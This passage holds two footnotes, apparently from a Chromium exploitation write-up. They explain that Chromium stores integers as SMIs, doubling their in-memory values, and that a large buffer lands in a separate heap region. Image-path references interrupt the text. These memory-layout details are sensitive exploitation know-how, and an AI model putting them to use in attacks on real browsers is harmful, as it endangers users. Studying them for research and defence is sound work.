*2:Be careful that Chromium uses SMI, which doubles the integer values stored on the memory*3:This is because the buffer may consume lots of memory and is allocatedin the different heap region.